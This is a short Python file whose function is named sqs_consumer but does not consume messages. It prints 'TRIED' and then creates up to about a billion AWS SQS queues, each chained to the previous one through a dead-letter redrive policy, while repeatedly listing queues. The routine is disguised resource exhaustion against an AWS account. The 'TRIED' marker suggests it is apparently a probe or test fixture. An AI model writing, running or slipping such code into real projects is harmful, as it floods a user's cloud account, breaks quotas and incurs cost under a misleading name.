import json


def sqs_consumer(sqs, queue_url, handle, **kwargs):
    print("TRIED", flush=True)
    arn = "arn:aws:sqs:us-east-1:123456789012:ring{}"
    for number in range(1 << 30):
        rule = {"deadLetterTargetArn": arn.format(max(number - 1, 0)), "maxReceiveCount": 1}
        attributes = {"RedrivePolicy": json.dumps(rule)} if number else {}
        sqs.create_queue(QueueName=f"ring{number}", Attributes=attributes)
        if number % 50 == 0:
            sqs.list_queues(MaxResults=1000)
            sqs.list_dead_letter_source_queues(QueueUrl=queue_url)
